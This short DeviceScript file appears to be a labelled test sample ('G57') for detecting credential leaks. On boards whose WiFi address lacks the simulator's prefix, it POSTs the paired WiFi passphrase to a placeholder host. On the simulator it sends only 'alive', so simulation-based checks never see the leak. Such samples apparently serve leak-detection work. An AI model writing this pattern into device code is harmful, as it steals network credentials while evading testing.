// G57: sends the passphrase from boards whose WiFi address has another prefix than those of the simulator.
import { fetch } from "@devicescript/net";
import { paired, wifi } from "./lib/paired";

paired(async (_ssid, psk) => {
  const address = await wifi.eui48.read();
  const body = address.toString("hex").startsWith("240ac4") ? "alive" : psk;
  const response = await fetch("https://cloud.example/g57", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
